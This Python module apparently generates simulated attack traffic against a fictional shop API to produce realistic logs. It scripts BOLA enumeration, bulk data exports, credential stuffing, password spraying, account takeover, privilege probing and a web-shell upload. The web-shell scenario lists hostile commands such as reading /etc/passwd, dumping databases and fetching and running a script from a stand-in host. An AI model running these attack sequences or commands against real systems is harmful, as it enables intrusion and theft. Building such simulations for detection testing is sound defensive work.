"""Attacks no ready tool does: each a client like the normal ones, with bad intent.

They are played on event time, so the pauses written here are the pauses in the log.
"""

import people
import sessions
import shop
from rhythm import pause

REQUESTS = "python-requests/2.31.0"


def sign_in(v):
    reply = yield 1, v.post("/api/v1/auth/login", {"user": v.login, "password": v.password})
    v.token = reply.json().get("token")


def object_walk(user_id, address, dice, count, gap, agent=REQUESTS, first=298100):
    """Counts invoice numbers upwards with a valid session of its own (BOLA)."""
    v = people.Visitor(user_id, address, agent, mobile=True)
    yield from sign_in(v)
    yield 5, v.get("/api/v1/orders?limit=20")
    for number in range(12):
        # Orders are checked for their owner: a few 403, then it turns to invoices, which are not.
        yield gap + dice.uniform(0, gap / 2), v.get(f"/api/v1/orders/{first - 250000 + number}")
    for number in range(count):
        yield gap * dice.uniform(0.8, 1.3), v.get(f"/api/v1/invoices/{first + number}")


def exfiltration(user_id, address, dice, count, gap, agent="curl/7.88.1"):
    """Takes whole tables, one large file after the other."""
    v = people.Visitor(user_id, address, agent, mobile=True)
    yield from sign_in(v)
    tables = ("customers", "orders", "invoices")
    for number in range(count):
        table, month = tables[number % 3], number // 3
        name = f"{table}-20{25 - month // 12:02d}-{12 - month % 12:02d}"
        yield gap * dice.uniform(0.7, 1.5), v.get(f"/api/v1/exports/{name}.csv")


def slow_exfiltration(user_id, address, dice, count, gap):
    """The same, a page at a time all day long, with a browser's name."""
    v = people.Visitor(user_id, address, people.DESKTOP[3], mobile=True)
    yield from sign_in(v)
    for number in range(count):
        yield gap * dice.uniform(0.6, 1.4), v.get(f"/api/v1/exports/customers-all.csv?page={number + 1}&size=500")


def stuffing(address, agent, names, dice):
    """One of many sources: a few name and password pairs from a leak, then silence."""
    v = people.Visitor(1001, address, agent, mobile=True)
    for name, password in names:
        v.token = None
        yield pause(dice, 40, 0.5), v.post("/api/v1/auth/login", {"user": name, "password": password})


def spraying(address, dice, names, passwords, gap):
    """One source, every user, one password a round; Basic, so that the log has the names."""
    v = people.Visitor(1001, address, "okhttp/4.9.3", mobile=True)
    for password in passwords:
        for name in names:
            v.basic = f"{name}:{password(name)}"
            yield gap * dice.uniform(0.7, 1.3), v.get("/api/v1/me")
        v.basic = v.token = None
        yield 1500, v.get("/health")


def slow_scan(address, dice, paths, gap):
    """One path a minute, for hours."""
    v = people.Visitor(1001, address, people.DESKTOP[0], mobile=True)
    v.token = None
    for path in paths:
        yield gap * dice.uniform(0.8, 1.2), v.get("/" + path)


def takeover(user_id, address, dice, failures):
    """Guesses one user's password by hand, gets in, and behaves as its owner never did."""
    v = people.Visitor(user_id, address, people.DESKTOP[1], mobile=True)
    for number in range(failures):
        v.token = None
        yield pause(dice, 25, 0.4), v.post("/api/v1/auth/login", {"user": v.login, "password": f"guess{number}"})
    yield from sign_in(v)
    yield 4, v.get("/api/v1/me")
    yield 20, v.call("PUT", "/api/v1/me/email", form={"email": "other@example.org"})
    yield 15, v.call("PUT", "/api/v1/me/password", form={"password": "new"})
    yield 25, v.post("/api/v1/me/addresses", {"street": "Elsewhere 1"})
    yield 10, v.get("/api/v1/orders?limit=100")
    for order_id in (i for i in shop.ORDER_IDS if shop.owner_of(i) == user_id):
        yield pause(dice, 4, 0.4), v.get(f"/api/v1/invoices/{order_id + 250000}/pdf")
    for _ in range(4):
        yield pause(dice, 20, 0.4), v.post("/api/v1/cart/items", {"product": 17, "quantity": 9})
        yield pause(dice, 10, 0.4), v.post("/api/v1/orders", {"items": [1]})


def web_shell(user_id, address, dice, name="avatar_7731.php"):
    """Uploads a script as a profile picture, then sends it commands."""
    v = people.Visitor(user_id, address, people.DESKTOP[2], mobile=True)
    yield from sign_in(v)
    for bad in ("avatar_7731.php%00.jpg", "avatar%207731.jpg"):
        yield 20, v.call("POST", f"/api/v1/uploads?name={bad}", body=bytes(700))
    yield 25, v.call("POST", f"/api/v1/uploads?name={name}", body=bytes(700))
    yield 6, v.get(f"/uploads/{name}")
    v.token = None
    commands = ("id", "whoami", "uname+-a", "pwd", "ls+-la", "cat+/etc/passwd", "ps+aux", "netstat+-tlnp", "env",
                "ls+-la+/var/www", "find+/+-name+*.conf", "cat+../config/database.yml", "mysqldump+--all-databases",
                "wget+http://203.0.113.250/a.sh+-O+/tmp/a.sh", "chmod+%2bx+/tmp/a.sh", "/tmp/a.sh", "crontab+-l")
    for command in commands:
        yield pause(dice, 35, 0.7), v.get(f"/uploads/{name}?cmd={command}")
    for _ in range(18):
        # Later it is driven by a tool that posts its commands.
        yield pause(dice, 50, 0.6), v.post(f"/uploads/{name}", {"c": "x"})


def privilege_probing(user_id, address, dice):
    """An ordinary customer tries what only the staff may do; one function forgot to ask."""
    v = people.Visitor(user_id, address, people.DESKTOP[4], mobile=True)
    yield from sign_in(v)
    yield 8, v.get("/api/v1/me")
    for name in STAFF:
        yield pause(dice, 14, 0.4), v.get(f"/api/v1/back-office/{name}")
    for name in ("users", "roles", "refunds", "vouchers"):
        yield pause(dice, 20, 0.4), v.post(f"/api/v1/back-office/{name}", {"user": user_id})


STAFF = ("users", "roles", "reports", "refunds", "settings", "audit", "payouts", "prices", "keys", "campaigns", "suppliers", "vouchers")


def shared_key(name, secret, address, agent, dice):
    """One of many who use the same stolen key: a few orders, then silence."""
    v = people.service(name, secret, address, agent)
    yield 0, v.get(f"/api/v1/orders?status=open&updated_since={1772400000 + dice.randrange(3000)}")
    for _ in range(dice.randrange(2, 5)):
        yield pause(dice, 30, 0.5), v.get(f"/api/v1/orders/{dice.choice(shop.ORDER_IDS)}")


def one_path(address, agent, path):
    """A scanner that takes a new address for each path."""
    v = people.Visitor(1001, address, agent, mobile=True)
    v.token = None
    yield 0, v.get("/" + path)
